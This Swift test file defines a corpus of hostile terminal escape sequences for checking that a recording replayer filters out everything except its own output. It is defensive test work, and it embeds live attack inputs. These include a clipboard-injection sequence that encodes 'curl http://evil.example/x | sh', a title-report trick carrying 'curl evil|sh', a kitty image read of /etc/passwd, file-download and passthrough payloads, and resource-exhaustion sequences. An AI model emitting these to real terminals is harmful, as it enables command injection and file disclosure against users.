import Testing

/// Recordings a stranger could send: each the output of a `.cast` (its `o` events, in the
/// pieces they would be read in), holding sequences quiz never writes. A test plays every one
/// through the replay's filter and checks that nothing but quiz's vocabulary comes out.
struct HostileRecording: CustomTestStringConvertible, Sendable {
  /// What it tries.
  var name: String
  /// The data of its output events, in order.
  var events: [[UInt8]]

  var testDescription: String { name }

  init(_ name: String, _ events: String...) {
    self.name = name
    self.events = events.map { Array($0.utf8) }
  }

  init(_ name: String, bytes events: [UInt8]...) {
    self.name = name
    self.events = events
  }

  /// How many of the corpus's recordings there are.
  static var count: Int { all.count }

  /// Every hostile recording, a line between harmless frames of quiz's own.
  static let all: [HostileRecording] = [
    // The payloads that passed before: each alone.
    .init(
      "OSC 52 sets the clipboard", "\u{1B}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\u{07}"),
    .init("OSC 52 ended by ST", "\u{1B}]52;p;Y3VybA==\u{1B}\\"),
    .init("OSC 8 hyperlink", "\u{1B}]8;;http://evil.example/\u{1B}\\click\u{1B}]8;;\u{1B}\\"),
    .init("title set then reported", "\u{1B}]2;curl evil|sh\u{07}\u{1B}[21t"),
    .init("OSC 50 font", "\u{1B}]50;#+1\u{07}"),
    .init("RIS full reset", "\u{1B}c"),
    .init("DECRQSS status request", "\u{1B}P$qm\u{1B}\\"),
    .init("scroll region", "\u{1B}[4;5r"),
    .init("keypad application mode", "\u{1B}="),
    .init("cursor-key application mode", "\u{1B}[?1h"),
    .init("mouse reporting modes", "\u{1B}[?1000h\u{1B}[?1002h\u{1B}[?1003h\u{1B}[?1006h"),
    .init("focus reporting", "\u{1B}[?1004h"),
    .init("leaving the alternate screen", "\u{1B}[?1049l\u{1B}[?47l\u{1B}[?1047l"),
    .init("kitty keyboard protocol", "\u{1B}[>1u\u{1B}[=31;1u"),
    .init(
      "iTerm2 file download", "\u{1B}]1337;File=name=ZXZpbC5zaA==;size=4;inline=0:ZXZpbA==\u{07}"),
    .init("kitty image from a file path", "\u{1B}_Ga=T,t=f,f=100,q=2;L2V0Yy9wYXNzd2Q=\u{1B}\\"),
    // More of the same kind.
    .init("kitty image from a temporary file", "\u{1B}_Ga=T,t=t,f=100,q=2;L3RtcC94\u{1B}\\"),
    .init(
      "kitty image from shared memory", "\u{1B}_Ga=T,t=s,f=24,s=1,v=1,q=2;c2htbmFtZQ==\u{1B}\\"),
    .init("kitty query that answers", "\u{1B}_Gi=31,s=1,v=1,a=q,t=d,f=24;AAAA\u{1B}\\"),
    .init("kitty command without q=2", "\u{1B}_Ga=T,f=24,s=1,v=1;AAAA\u{1B}\\"),
    .init("kitty chunk with no image begun", "\u{1B}_Gm=0,q=2;AAAA\u{1B}\\"),
    .init("kitty placement of another image", "\u{1B}_Ga=p,i=1,q=2\u{1B}\\"),
    .init("iTerm2 inline image with a name", "\u{1B}]1337;File=name=eA==;inline=1:AAAA\u{07}"),
    .init("iTerm2 other command", "\u{1B}]1337;SetMark\u{07}\u{1B}]1337;CopyToClipboard=\u{07}"),
    .init("sixel of a huge raster", "\u{1B}P0;1;0q\"1;1;99999;99999#0!99999~\u{1B}\\"),
    .init("sixel with an escape inside", "\u{1B}P0;1;0q#0~\u{1B}[?1049l~\u{1B}\\"),
    .init("tmux passthrough of OSC 52", "\u{1B}Ptmux;\u{1B}\u{1B}]52;c;Y3VybA==\u{07}\u{1B}\\"),
    .init("tmux passthrough of text", "\u{1B}Ptmux;hello\u{1B}\\"),
    .init("OSC 4 palette change", "\u{1B}]4;1;rgb:ff/00/00\u{07}"),
    .init("OSC 10 and 11 colour queries", "\u{1B}]10;?\u{07}\u{1B}]11;?\u{1B}\\"),
    .init("OSC 7 and 133 shell integration", "\u{1B}]7;file:///etc\u{07}\u{1B}]133;A\u{07}"),
    .init("device attribute and status reports", "\u{1B}[c\u{1B}[>c\u{1B}[6n\u{1B}[5n\u{1B}[?6n"),
    .init("window operations", "\u{1B}[8;100;300t\u{1B}[14t\u{1B}[9;1t\u{1B}[3;0;0t"),
    .init("erase the scrollback", "\u{1B}[3J"),
    .init("insert and origin modes", "\u{1B}[4h\u{1B}[?6h"),
    .init("bracketed paste and modes combined", "\u{1B}[?2004h\u{1B}[?25;1049l\u{1B}[?7;1000h"),
    .init("cursor style and saving", "\u{1B}[2 q\u{1B}7\u{1B}8\u{1B}[s\u{1B}[u"),
    .init("line-drawing character set", "\u{1B}(0lqk\u{1B})0\u{0E}x\u{0F}"),
    .init(
      "answerback, bell and other controls", "\u{05}\u{07}\u{00}\u{7F}\u{08}\u{09}\u{0B}\u{0C}"),
    .init(
      "huge parameters", "\u{1B}[99999999999999;99999999999999H\u{1B}[38;2;9999;0;0m\u{1B}[999999A"),
    .init(
      "a parameter run of 100 000 digits", "\u{1B}[" + String(repeating: "9", count: 100_000) + "m"),
    .init("SGR with colon subparameters", "\u{1B}[4:3m\u{1B}[58:2::255:0:0m"),
    .init("DCS strings", "\u{1B}P1;2|17/ab\u{1B}\\\u{1B}P+q544e\u{1B}\\\u{1B}P=1s\u{1B}\\"),
    .init(
      "APC, PM and SOS strings", "\u{1B}_hello\u{1B}\\\u{1B}^private\u{1B}\\\u{1B}Xstart\u{1B}\\"),
    .init("a string cancelled by CAN then OSC 52", "\u{1B}]0;x\u{18}\u{1B}]52;c;AAAA\u{07}"),
    // Sequences cut between events, or never ended.
    .init("OSC 52 split between events", "\u{1B}]5", "2;c;Y3Vy", "bA==\u{07}"),
    .init("scroll region split at every byte", "\u{1B}", "[", "4", ";", "5", "r"),
    .init("escape at the end of an event, a reset after", "ok\u{1B}", "c"),
    .init("unterminated OSC at the end", "\u{1B}]52;c;Y3VybA=="),
    .init("unterminated DCS at the end", "\u{1B}P$qm"),
    .init("unterminated control sequence at the end", "\u{1B}[4;5"),
    .init("a sequence cut by another", "\u{1B}]52;c;AAAA\u{1B}[4;5r\u{1B}]8;;x\u{1B}[?1049l"),
    // C1 controls.
    .init(
      "raw 0x9B and 0x9D bytes", bytes: [0x9B, 0x34, 0x3B, 0x35, 0x72],
      [0x9D, 0x35, 0x32, 0x3B, 0x63, 0x3B, 0x41, 0x07]),
    .init(
      "raw 0x90 0x9F 0x9C 0x9E bytes",
      bytes: [0x90, 0x24, 0x71, 0x6D, 0x9C, 0x9F, 0x78, 0x9C, 0x9E, 0x79, 0x9C]),
    .init("C1 CSI and OSC as UTF-8", "\u{9B}4;5r\u{9D}52;c;QQ==\u{07}\u{9B}?1049l"),
    .init(
      "UTF-8 cut short and overlong", bytes: [0xE2, 0x94],
      [0xC0, 0x9B, 0xE0, 0x80, 0x9B, 0xED, 0xA0, 0x80, 0xF5, 0x80]),
  ]
}
